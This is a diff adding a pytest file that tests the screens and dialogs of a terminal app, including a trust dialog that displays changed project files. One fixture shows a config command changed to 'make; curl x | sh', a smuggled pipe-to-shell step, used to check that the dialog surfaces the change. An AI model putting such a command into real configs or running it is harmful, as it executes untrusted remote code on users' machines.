@@ -1,0 +1,193 @@
+"""The small screens and the dialogs, as they look and what they say."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from typing import TYPE_CHECKING
+
+import pytest
+
+from cis_tui.core.events import Event
+from cis_tui.core.paths import Home
+from cis_tui.dag.views import DecisionKind
+from cis_tui.project.model import Change, TrustItem, TrustReport, TrustState
+from cis_tui.skills.model import Permissions
+from cis_tui.tui.detail import decision_lines, permission_sentences
+from cis_tui.tui.paint import Tone
+from cis_tui.tui.screens.activity import ActivityScreen
+from cis_tui.tui.screens.confirm import ConfirmDialog
+from cis_tui.tui.screens.form import Field, FormDialog
+from cis_tui.tui.screens.quit import QuitDialog
+from cis_tui.tui.screens.reader import ReaderDialog
+from cis_tui.tui.screens.trust import TrustDialog, report_lines
+from cis_tui.tui.store import KEPT_ACTIVITY, summary_of
+from tests.tui.conftest import Compare
+from tests.tui.helpers import NOW, ROOT, decision, fill, half_way, show, text_of, until, vote, workspace
+
+if TYPE_CHECKING:
+    from textual.screen import Screen
+
+SIZES = [(80, 24), (120, 36)]
+KEYS = {"peers": "3", "chat": "4", "skills": "5", "activity": "6"}
+
+
+@pytest.mark.parametrize("theme", ["cis-dark", "cis-light"])
+@pytest.mark.parametrize("size", SIZES, ids=["80x24", "120x36"])
+@pytest.mark.parametrize("name", KEYS)
+async def test_a_screen(home: Home, looks_right: Compare, name: str, size: tuple[int, int], theme: str) -> None:
+    app = workspace(home, theme=theme)
+    async with app.run_test(size=size) as pilot:
+        fill(app, half_way())
+        await pilot.press(KEYS[name])
+        await pilot.pause()
+        looks_right(app)
+
+
+REPORT = TrustReport(
+    "/projects/demo",
+    TrustState.CONTENT,
+    (
+        TrustItem(
+            ".cis/dags/tour.toml", Change.CHANGED, '@@ -3,1 +3,1 @@\n-command = "make"\n+command = "make; curl x | sh"'
+        ),
+        TrustItem(".cis/skills/greet/run.py", Change.NEW, "import os\n\n- not a removed line"),
+        TrustItem(".cis/dags/old.toml", Change.REMOVED, '-[skill]\n-name = "old"'),
+    ),
+    "digest",
+)
+FIELDS = [Field("version", note="string  such as 1.2", required=True), Field("notes", "two\nlines", lines=True)]
+DIALOGS: dict[str, Callable[[], Screen[object]]] = {
+    "trust": lambda: TrustDialog(REPORT),
+    "form": lambda: FormDialog("Run release", FIELDS),
+    "confirm": lambda: ConfirmDialog("Cancel this run of release?", "5 of 8 tasks are not done."),
+    "quit": lambda: QuitDialog([summary_of(half_way().state)]),
+    "inspect": lambda: ReaderDialog("What is asked", decision_lines(vote(prompt="make announce\necho done"))),
+}  # type: ignore[dict-item]
+
+
+@pytest.mark.parametrize("size", SIZES, ids=["80x24", "120x36"])
+@pytest.mark.parametrize("name", DIALOGS)
+async def test_a_dialog(home: Home, looks_right: Compare, name: str, size: tuple[int, int]) -> None:
+    app = workspace(home)
+    async with app.run_test(size=size) as pilot:
+        fill(app, half_way())
+        await app.push_screen(DIALOGS[name]())
+        await pilot.pause()
+        looks_right(app)
+
+
+@pytest.mark.parametrize("size", SIZES, ids=["80x24", "120x36"])
+async def test_the_help_is_made_of_the_bindings(home: Home, looks_right: Compare, size: tuple[int, int]) -> None:
+    app = workspace(home)
+    async with app.run_test(size=size) as pilot:
+        fill(app, half_way())
+        await pilot.press("question_mark")
+        await pilot.pause()
+        looks_right(app)
+        assert "Esc close" in text_of(app), "the way out is on every size visible"
+        await pilot.press("end")
+        await pilot.pause()
+        assert "level: by vote" in text_of(app)
+        await pilot.press("escape")
+        assert len(app.screen_stack) == 1
+
+
+async def test_the_palette_offers_what_can_run(home: Home) -> None:
+    app = workspace(home)
+    async with app.run_test(size=(100, 30)) as pilot:
+        fill(app)
+        await pilot.press("colon")
+        await pilot.pause()
+        await pilot.press(*"run")
+        await until(pilot, lambda: "Run release" in text_of(app))
+        assert "Run broken" not in text_of(app)
+
+
+def test_trust_shows_only_real_changes_as_changes() -> None:
+    text = {"".join(text for text, _ in line): line[-1][1] for line in report_lines(REPORT) if line}
+    assert text['  +command = "make; curl x | sh"'] is Tone.GOOD
+    assert text["  - not a removed line"] is Tone.PLAIN
+    assert any("- removed  .cis/dags/old.toml" in line for line in text)
+
+
+def test_permissions_are_told_in_words_and_so_is_what_is_not_allowed() -> None:
+    said = permission_sentences(Permissions(memory_read=("",), filesystem=("read:.", "write:build/"), command=("*",)))
+    assert said == [
+        "read memory: all that is public",
+        "not write memory",
+        "read files: .",
+        "write files: build/",
+        "start programs: any",
+        "not use the network",
+    ]
+
+
+async def test_activity_follows_the_newest_event_until_the_cursor_leaves_it(home: Home) -> None:
+    app = workspace(home)
+
+    def happen(first: int, number: int) -> None:
+        events = [Event(seq, NOW, "MemorySet", {"key": f"key-{seq}"}) for seq in range(first, first + number)]
+        show(app, app.store.apply(events))
+
+    async with app.run_test(size=(80, 24)) as pilot:
+        fill(app)
+        await pilot.press("6")
+        happen(1000, 50)
+        await pilot.pause()
+        assert "key-1049" in text_of(app)
+        await pilot.press("pageup")
+        happen(2000, 50)
+        await pilot.pause()
+        assert "key-2049" not in text_of(app)
+        await pilot.press("end")
+        await pilot.pause()
+        assert "key-2049" in text_of(app)
+
+
+async def test_activity_can_be_paused_and_filtered_and_says_what_is_gone(home: Home) -> None:
+    app = workspace(home)
+    async with app.run_test(size=(80, 24)) as pilot:
+        fill(app, half_way())
+        await pilot.press("6", "space")
+        show(app, app.store.apply([Event(900, NOW, "MemorySet", {"key": "later"})]))
+        await pilot.pause()
+        assert "paused" in text_of(app) and "later" not in text_of(app)
+        await pilot.press("space")
+        await pilot.pause()
+        assert "later" in text_of(app)
+        await pilot.press("slash", *"retried", "enter")
+        await pilot.pause()
+        assert "1 event" in text_of(app) and "TaskRetried" in text_of(app)
+        await pilot.press("slash", "escape")
+        show(
+            app,
+            app.store.apply(Event(seq, NOW, "MemorySet", {"key": "k"}) for seq in range(1000, 1000 + KEPT_ACTIVITY)),
+        )
+        await pilot.pause()
+        assert f"{KEPT_ACTIVITY} events" in text_of(app) and "older ones gone" in text_of(app)
+        assert isinstance(app.screen, ActivityScreen)
+
+
+async def test_skills_are_filtered_by_name(home: Home) -> None:
+    app = workspace(home)
+    async with app.run_test(size=(100, 30)) as pilot:
+        fill(app)
+        await pilot.press("5", "slash", *"she", "enter")
+        await pilot.pause()
+        assert "greet" not in text_of(app)
+        assert "start programs: any" in text_of(app)
+
+
+async def test_a_click_does_what_the_keys_do(home: Home) -> None:
+    app = workspace(home)
+    async with app.run_test(size=(120, 36)) as pilot:
+        fill(app, half_way().asked(12, decision("publish", DecisionKind.CONFIRMED, left=300)))
+        await pilot.click("NavBar", offset=(24, 0))
+        await pilot.pause()
+        assert app.current_mode == "peers"
+        await pilot.click("Tray", offset=(10, 1))
+        await until(pilot, lambda: app.current_mode == "dags" and "publish asks for approval" in text_of(app))
+        await pilot.click("#lanes", offset=(20, 0))
+        await pilot.pause()
+        assert "runs     make lint" in text_of(app)
+        assert ROOT in app.store.project_root
